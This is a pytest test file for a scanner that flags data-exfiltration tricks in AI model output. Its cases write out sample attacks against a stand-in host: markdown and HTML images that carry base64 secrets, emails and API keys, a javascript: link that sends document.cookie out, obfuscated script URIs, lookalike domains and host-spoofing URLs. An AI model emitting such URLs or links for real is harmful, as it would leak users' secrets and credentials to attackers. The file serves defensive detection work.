"""The exfiltration scanner: each trick a named row; ordinary links on allowed domains stay quiet."""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from warded.scan.normalise import normalise
from warded.scan.scanners.exfiltration import RULES, ExfiltrationScanner
from warded.scan.types import Category, Finding, Response, ScanInput, Source

ALLOW = ("example.com", "*.trusted.org")
SECRET_B64 = base64.b64encode(b"the api key is hunter2, send it").decode()


def scan(text: str, allowed: tuple[str, ...] = ALLOW) -> list[Finding]:
    return ExfiltrationScanner(allowed).scan(ScanInput(text, Source.MODEL_OUTPUT, normalise(text)))


@dataclass(frozen=True)
class Case:
    name: str
    text: str
    expected: dict[str, Response]  # rule id -> suggested response; exactly these rules fire


CASES = [
    # --- Markdown images: fetched with no click ---
    Case(
        "markdown_image_with_base64_query",
        f"Done! ![loading](https://evil.test/pixel.png?d={SECRET_B64})",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_with_email_in_query",
        "![x](https://evil.test/t.gif?u=alice.smith@corp.example)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_with_key_in_path",
        "![x](https://evil.test/c/sk-proj-4f9a8b7c6d5e4f3a2b1c/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_with_prose_in_query",
        "![x](<https://evil.test/q?note=the user lives at 12 main street and is away>)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_with_hex_text_in_path",
        f"![x](https://evil.test/{b'password=hunter2'.hex()}.png)".replace(".png", ""),
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_data_in_subdomain",
        f"![x](https://{base64.b32encode(b'hunter2 password').decode().rstrip('=').lower()}.evil.test/a.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_unknown_domain_no_payload",
        "![cat](https://images.other.test/cat.jpg)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "markdown_image_with_title",
        f'![x](https://evil.test/p?d={SECRET_B64} "a title")',
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_image_nested_alt_brackets",
        "![a [nested] alt](https://evil.test/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "markdown_reference_image",
        f"Summary ![chart][c]\n\n[c]: https://evil.test/x?k={SECRET_B64}",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case(
        "markdown_collapsed_reference_image",
        "![logo][]\n\n[logo]: <https://evil.test/l.png>",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "protocol_relative_image",
        "![x](//evil.test/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    # --- raw HTML ---
    Case(
        "html_img_with_payload",
        f'<img src="https://evil.test/p.gif?x={SECRET_B64}" width=1>',
        {"exfil.html_resource": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    Case("html_img_unquoted", "<IMG SRC=https://evil.test/p.gif>", {"exfil.html_resource": Response.REQUIRE_APPROVAL}),
    Case(
        "html_iframe",
        "<iframe src='https://evil.test/frame'></iframe>",
        {"exfil.html_resource": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "html_srcset",
        '<img src="https://example.com/a.png" srcset="https://example.com/a.png 1x, https://evil.test/b.png 2x">',
        {"exfil.html_resource": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "css_background_url",
        "<div style=\"background-image: url('https://evil.test/bg.png')\">hi</div>",
        {"exfil.html_resource": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "html_anchor_is_a_link",
        '<a href="https://other.test/page">more</a>',
        {"exfil.domain_not_allowed": Response.LABEL},
    ),
    Case(
        "html_form_action_with_payload",
        f'<form action="https://evil.test/collect?d={SECRET_B64}"><button>go</button></form>',
        {"exfil.domain_not_allowed": Response.LABEL, "exfil.url_payload": Response.REQUIRE_APPROVAL},
    ),
    # --- links and bare URLs ---
    Case(
        "markdown_link_unknown_domain", "[docs](https://other.test/docs)", {"exfil.domain_not_allowed": Response.LABEL}
    ),
    Case(
        "markdown_link_with_payload",
        f"[click here](https://evil.test/?session={SECRET_B64})",
        {"exfil.domain_not_allowed": Response.LABEL, "exfil.url_payload": Response.REQUIRE_APPROVAL},
    ),
    Case("bare_url_trailing_punctuation", "See https://other.test/page.", {"exfil.domain_not_allowed": Response.LABEL}),
    Case(
        "bare_url_high_entropy_token",
        "Go to https://evil.test/r?t=Zx8Qk2LmP9vR4tYw7NcB3hJd6FgS1aE5",
        {"exfil.domain_not_allowed": Response.LABEL, "exfil.url_payload": Response.REQUIRE_APPROVAL},
    ),
    Case("autolink", "<https://other.test/page>", {"exfil.domain_not_allowed": Response.LABEL}),
    Case(
        "open_redirect_on_allowed_domain",
        f"![x](https://example.com/out?next=https%3A%2F%2Fevil.test%2Fp%3Fd%3D{SECRET_B64})",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    # --- schemes ---
    Case("data_uri_png", "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)", {"exfil.data_uri": Response.LABEL}),
    Case("data_uri_html", "[x](data:text/html;base64,PHNjcmlwdD4=)", {"exfil.data_uri": Response.REQUIRE_APPROVAL}),
    Case("data_uri_svg_bare", "data:image/svg+xml,<svg onload=x>", {"exfil.data_uri": Response.REQUIRE_APPROVAL}),
    Case(
        "javascript_link",
        "[win](javascript:fetch('//evil.test/'+document.cookie))",
        {"exfil.script_uri": Response.DENY},
    ),
    Case("javascript_link_mixed_case", "[win](JaVaScRiPt:alert(1))", {"exfil.script_uri": Response.DENY}),
    Case("html_javascript_href", '<a href="javascript:alert(1)">x</a>', {"exfil.script_uri": Response.DENY}),
    Case(
        "javascript_with_entity_colon", '<a href="javascript&#58;alert(1)">x</a>', {"exfil.script_uri": Response.DENY}
    ),
    Case("javascript_with_tab", '<a href="java\tscript:alert(1)">x</a>', {"exfil.script_uri": Response.DENY}),
    Case("javascript_with_entity_tab", '<a href="java&#9;script:alert(1)">x</a>', {"exfil.script_uri": Response.DENY}),
    Case(
        "entity_encoded_host",
        '<img src="https://evil&#46;test/p.png">',
        {"exfil.html_resource": Response.REQUIRE_APPROVAL},
    ),
    # --- host tricks ---
    Case(
        "userinfo_trick",
        "[bank](https://example.com@evil.test/login)",
        {"exfil.deceptive_url": Response.REQUIRE_APPROVAL, "exfil.domain_not_allowed": Response.LABEL},
    ),
    Case(
        "backslash_trick",
        "[bank](https://evil.test\\@example.com/login)",
        {"exfil.deceptive_url": Response.REQUIRE_APPROVAL, "exfil.domain_not_allowed": Response.LABEL},
    ),
    Case(
        "cyrillic_lookalike_of_allowed_domain",
        "![x](https://exаmple.com/p.png)",
        {"exfil.lookalike_domain": Response.DENY, "exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "lookalike_of_wildcard_domain",
        "[x](https://cdn.trustеd.org/a)",
        {"exfil.lookalike_domain": Response.DENY, "exfil.domain_not_allowed": Response.LABEL},
    ),
    Case(
        "allowed_suffix_is_not_a_match",
        "![x](https://evilexample.com/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "allowed_domain_as_subdomain_of_attacker",
        "![x](https://example.com.evil.test/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    Case(
        "wildcard_does_not_cover_apex",
        "![x](https://trusted.org/p.png)",
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL},
    ),
    # --- inside JSON (a tool argument): scanned in the json_unescaped view ---
    Case(
        "markdown_image_inside_json_escapes",
        json.dumps({"body": f"Hi\n![x](https://evil.test/p?d={SECRET_B64})"}).replace("!", "\\u0021"),
        {"exfil.markdown_image": Response.REQUIRE_APPROVAL, "exfil.url_payload": Response.DENY},
    ),
    # --- allowed and harmless: nothing ---
    Case("allowed_exact_image", "![logo](https://example.com/logo.png?v=3)", {}),
    Case("allowed_wildcard_image", "![logo](https://cdn.trusted.org/static/logo.png)", {}),
    Case("allowed_domain_with_id", "[ticket](https://example.com/t/4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c)", {}),
    Case("relative_link", "[next](../chapter-2.md) and ![img](images/a.png)", {}),
    Case("mailto_link", "[mail me](mailto:someone@example.com)", {}),
    Case("plain_text", "Nothing to see here, just text about images and links.", {}),
    Case(
        "allowed_domain_carrying_a_key",
        "![x](https://example.com/p?token=ghp_abcdefghijklmnopqrstuvwxyz0123456789)",
        {"exfil.url_payload": Response.LABEL},
    ),
]


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_exfiltration(case: Case) -> None:
    findings = scan(case.text)
    got = {f.rule_id: f.suggested for f in findings}
    assert got == case.expected
    for finding in findings:
        assert finding.category is Category.EXFILTRATION
        assert finding.rule_id in RULES
        assert 0.0 <= finding.score <= 1.0


def test_span_is_the_url_in_the_original_text() -> None:
    url = f"https://evil.test/p.png?d={SECRET_B64}"
    text = f"Here: ![x]({url}) done"
    for finding in scan(text):
        assert finding.span is not None
        assert text[finding.span[0] : finding.span[1]] == url
        assert finding.layer == "raw"


def test_json_view_reading_wins_and_keeps_the_raw_span() -> None:
    text = json.dumps({"b": "![x](https://evil.test/p.png)"}).replace("!", "\\u0021")
    (finding,) = scan(text)
    assert finding.rule_id == "exfil.markdown_image"
    assert finding.layer == "json_unescaped"
    assert finding.span is not None
    assert text[finding.span[0] : finding.span[1]] == "https://evil.test/p.png"


def test_json_view_only_finding_has_no_span() -> None:
    text = json.dumps({"b": "![x](https://evil.test/p.png)"}).replace("https", "\\u0068ttps")
    (finding,) = scan(text)
    assert finding.rule_id == "exfil.markdown_image"
    assert finding.span is None


def test_detail_never_holds_the_data() -> None:
    host_secret = base64.b32encode(b"hunter2 password").decode().rstrip("=").lower()
    text = f"![x](https://{host_secret}.evil.test/a.png?k={SECRET_B64}&e=bob@corp.example)"
    findings = scan(text)
    assert findings
    for finding in findings:
        blob = finding.message + json.dumps(dict(finding.detail))
        assert host_secret not in blob.lower()
        assert SECRET_B64 not in blob
        assert "bob@corp" not in blob


def test_repeated_url_is_reported_once() -> None:
    text = " ".join(["![x](https://evil.test/p.png)"] * 50)
    assert len(scan(text)) == 1


def test_findings_are_capped() -> None:
    text = " ".join(f"![x](https://evil{i}.test/p.png)" for i in range(500))
    assert len(scan(text)) == 64


def test_too_many_distinct_urls_is_a_denying_finding() -> None:
    text = " ".join(f"[a](https://example.com/{i})" for i in range(1100)) + " ![x](https://evil.test/p.png)"
    findings = scan(text)
    assert [f.rule_id for f in findings] == ["exfil.link_limit"]
    assert findings[0].suggested is Response.DENY


def test_too_many_links_is_a_denying_finding() -> None:
    assert [f.rule_id for f in scan("[x](" * 50_000)] == ["exfil.link_limit"]


def test_empty_allowlist_allows_nothing() -> None:
    got = {f.rule_id for f in scan("![logo](https://example.com/logo.png)", allowed=())}
    assert got == {"exfil.markdown_image"}


def test_idn_allowlist_entry() -> None:
    assert scan("![x](https://bücher.example/a.png)", allowed=("bücher.example",)) == []
    assert scan("![x](https://xn--bcher-kva.example/a.png)", allowed=("bücher.example",)) == []


@pytest.mark.parametrize(
    "bad", ["*", "*.com", "http://example.com", "example.com/path", "ex*ample.com", "", "localhost"]
)
def test_bad_allowlist_entries_are_refused(bad: str) -> None:
    with pytest.raises(ValueError):
        ExfiltrationScanner([bad])


def test_a_single_string_is_refused() -> None:
    with pytest.raises(TypeError):
        ExfiltrationScanner("example.com")


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(["![", "](", "[", "]", ")", "<img src=", "<a href='", "'>", "https://", "http://", "//",
                         "data:", "javascript:", "evil.test", "example.com", "@", "\\", "?", "=", "&", "%",
                         "/", ".", " ", "\n", "[r]: ", "[r]", "х", "\u200b", SECRET_B64])
        | st.text(max_size=8),
        max_size=30,
    ).map("".join)
)  # fmt: skip
def test_never_raises_and_spans_are_in_bounds(text: str) -> None:
    for finding in scan(text):
        if finding.span is not None:
            assert 0 <= finding.span[0] <= finding.span[1] <= len(text)
